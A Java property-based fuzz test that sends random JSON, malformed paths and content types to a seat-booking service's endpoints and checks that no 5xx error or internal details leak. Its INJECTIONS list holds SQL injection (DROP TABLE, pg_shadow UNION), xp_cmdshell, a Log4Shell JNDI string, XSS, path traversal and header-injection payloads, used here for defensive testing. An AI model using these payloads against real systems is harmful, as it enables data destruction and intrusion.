package dev.seatbooking.system;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.math.BigInteger;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.Tuple;
import tools.jackson.core.json.JsonWriteFeature;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Random JSON values, wrong types, huge numbers, unicode, control characters and injection
 * strings, at every endpoint of booking-service in both modes (jwt mode with a valid token, an
 * admin's for event creation, so that the input reaches validation). Whatever comes in: never a
 * 5xx, an error always in the contract's body, and never a stack trace, SQL or class name.
 * Tries are bounded so the whole property run stays within seconds.
 */
class HostileInputPropertyTest {

    private static final int TRIES = 50;
    private static final HttpClient HTTP = HttpClient.newHttpClient();

    /** Serialises anything, lone surrogates included, as valid JSON text. */
    private static final JsonMapper JSON = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

    private static final List<String> INJECTIONS = List.of("'; DROP TABLE bookings; --", "1 OR 1=1",
            "' UNION SELECT password FROM pg_shadow --", "\"; EXEC xp_cmdshell 'dir'; --", "${jndi:ldap://x.example/a}",
            "#{7*7}", "{{7*7}}", "<script>alert(1)</script>", "../../../../etc/passwd", "%00", "%s%s%s%n",
            "\u0000", "\r\nSet-Cookie: a=b", "\u202Eevil", "NaN", "-Infinity", "1e400", "0x1F", "null", "[]", "{}",
            "9223372036854775808", "-9223372036854775809", "x".repeat(256), "🎟️".repeat(200));

    private static final List<String> MARKERS = List.of("Exception", "\tat ", "at java.", "at org.", "at dev.",
            "org.springframework", "tools.jackson", "com.fasterxml", "org.hibernate", "org.postgresql", "PSQL",
            "SQLState", "SQL state", "java.lang", "java.util", "jakarta.", "dev.seatbooking", "Tomcat", "<html",
            "nimbus", "syntax error at", "violates", "duplicate key");

    enum Mode {
        NONE, JWT
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.BOUNDED)
    void reserve(@ForAll Mode mode, @ForAll("reserveBodies") String body, @ForAll("headerValues") String idempotencyKey) {
        check(api(mode, false).contentType("application/json").header("Idempotency-Key", idempotencyKey).body(body)
                .post("/api/bookings/reserve"));
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.BOUNDED)
    void createEvent(@ForAll Mode mode, @ForAll("eventBodies") String body) {
        check(api(mode, true).contentType("application/json").body(body).post("/api/events"));
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.BOUNDED)
    void cancel(@ForAll Mode mode, @ForAll("pathSegments") String id, @ForAll("cancelBodies") String body) {
        check(api(mode, false).urlEncodingEnabled(false).contentType("application/json").body(body)
                .delete("/api/bookings/" + id));
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.BOUNDED)
    void reads(@ForAll Mode mode, @ForAll("readPaths") String path, @ForAll("pathSegments") String segment,
            @ForAll("queryValues") String page, @ForAll("queryValues") String size) {
        check(api(mode, false).urlEncodingEnabled(false).get(path + segment + "?page=" + page + "&size=" + size));
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.BOUNDED)
    void anyBodyAnywhere(@ForAll Mode mode, @ForAll("anyBodies") String body, @ForAll("contentTypes") String type,
            @ForAll("writePaths") String path) throws IOException, InterruptedException {
        // the JDK client sends the bytes as they are, whatever charset or type the header invents
        RunningSuite suite = RunningSuite.get();
        int port = mode == Mode.NONE ? suite.bookingPort() : suite.jwtBookingPort();
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                .header("Content-Type", type)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body.getBytes(StandardCharsets.UTF_8)));
        if (mode == Mode.JWT) {
            request.header("Authorization", "Bearer " + Tokens.admin("fuzz-admin"));
        }
        HttpResponse<String> response = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
        check(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""), response.body());
    }

    // ---- what the requests are made of

    @Provide
    Arbitrary<String> reserveBodies() {
        return objects(List.of("event_id", "user_id"));
    }

    @Provide
    Arbitrary<String> eventBodies() {
        return objects(List.of("name", "total_seats"));
    }

    @Provide
    Arbitrary<String> cancelBodies() {
        return Arbitraries.oneOf(objects(List.of("user_id")), Arbitraries.just(""));
    }

    @Provide
    Arbitrary<String> anyBodies() {
        return Arbitraries.oneOf(values(3).map(HostileInputPropertyTest::json), text(),
                objects(List.of("event_id", "user_id", "name", "total_seats", "quantity")));
    }

    @Provide
    Arbitrary<String> pathSegments() {
        return Arbitraries.oneOf(Arbitraries.longs().map(String::valueOf),
                Arbitraries.bigIntegers().between(BigInteger.TEN.pow(19), BigInteger.TEN.pow(40)).map(String::valueOf),
                text().map(HostileInputPropertyTest::encode),
                Arbitraries.of("%2F", "%5C", "%00", "%3B", "%25", "..", "%2E%2E", "%0D%0A", "%C0%AE", "%FF", "%E2%80%AE"));
    }

    @Provide
    Arbitrary<String> readPaths() {
        return Arbitraries.of("/api/bookings/", "/api/bookings/user/", "/api/events/", "/api/events", "/health/",
                "/actuator/", "/api/webhooks/", "/api/waitlist/");
    }

    @Provide
    Arbitrary<String> writePaths() {
        return Arbitraries.of("/api/bookings/reserve", "/api/events", "/api/bookings/1", "/health", "/actuator/health",
                "/api/webhooks", "/api/events/1/waitlist", "/api/waitlist/1");
    }

    @Provide
    Arbitrary<String> queryValues() {
        return Arbitraries.oneOf(Arbitraries.integers().map(String::valueOf), text().map(HostileInputPropertyTest::encode),
                Arbitraries.of("", "-1", "1e9", "99999999999999999999", "%00"));
    }

    @Provide
    Arbitrary<String> headerValues() {
        // printable ASCII, what HTTP lets through; Tomcat refuses control characters itself
        return Arbitraries.oneOf(Arbitraries.strings().withCharRange(' ', '~').ofMinLength(1).ofMaxLength(300),
                Arbitraries.of(INJECTIONS).filter(s -> s.chars().allMatch(c -> c >= ' ' && c <= '~')));
    }

    @Provide
    Arbitrary<String> contentTypes() {
        return Arbitraries.of("application/json", "application/json; charset=ISO-8859-1", "application/json; charset=nope",
                "text/plain", "application/x-www-form-urlencoded", "application/xml", "*/*", "application/problem+json");
    }

    /** Objects with the endpoint's fields (each may be missing) plus a stray one, of any JSON type. */
    private static Arbitrary<String> objects(List<String> fields) {
        Arbitrary<Map<String, Object>> known = Arbitraries.maps(Arbitraries.of(fields), values(2)).ofMaxSize(fields.size());
        Arbitrary<Map<String, Object>> stray = Arbitraries.maps(text(), values(1)).ofMaxSize(1);
        return Combinators.combine(known, stray).as((a, b) -> {
            Map<String, Object> body = new LinkedHashMap<>(b);
            body.putAll(a);
            return json(body);
        });
    }

    private static Arbitrary<Object> values(int depth) {
        Arbitrary<Object> scalars = Arbitraries.oneOf(
                Arbitraries.just((Object) null),
                Arbitraries.of(true, false).map(Object.class::cast),
                Arbitraries.integers().map(Object.class::cast),
                Arbitraries.longs().map(Object.class::cast),
                Arbitraries.bigIntegers().between(BigInteger.TEN.pow(20).negate(), BigInteger.TEN.pow(60))
                        .map(Object.class::cast),
                Arbitraries.doubles().map(Object.class::cast),
                text().map(Object.class::cast));
        if (depth == 0) {
            return scalars;
        }
        return Arbitraries.frequencyOf(
                Tuple.of(6, scalars),
                Tuple.of(1, values(depth - 1).list().ofMaxSize(4).map(Object.class::cast)),
                Tuple.of(1, Arbitraries.maps(text(), values(depth - 1)).ofMaxSize(3).map(Object.class::cast)));
    }

    /** Any unicode (unpaired surrogates too), control characters, and the usual injection strings. */
    private static Arbitrary<String> text() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(300),
                Arbitraries.strings().withCharRange('\u0000', '\u001F').ofMaxLength(8),
                Arbitraries.of(INJECTIONS));
    }

    // ---- sending and judging

    private static RequestSpecification api(Mode mode, boolean admin) {
        RunningSuite suite = RunningSuite.get();
        if (mode == Mode.NONE) {
            return given().port(suite.bookingPort());
        }
        String token = admin ? Tokens.admin("fuzz-admin") : Tokens.user("fuzz-user");
        return given().port(suite.jwtBookingPort()).header("Authorization", "Bearer " + token);
    }

    private static void check(Response response) {
        check(response.statusCode(), response.contentType(), response.asString());
    }

    private static void check(int status, String contentType, String body) {
        assertThat(status).as("status, body %s", body).isLessThan(500);
        assertThat(MARKERS).as("internals in %s", body).noneMatch(body::contains);
        if (status >= 400) {
            assertThat(contentType).as("body %s", body).startsWith("application/problem+json");
            JsonNode problem = JSON.readTree(body);
            assertThat(problem.path("code").asString()).as("body %s", body).isNotBlank();
            assertThat(problem.path("success").asBoolean(true)).as("body %s", body).isFalse();
        }
    }

    private static String json(Object value) {
        return JSON.writeValueAsString(value);
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
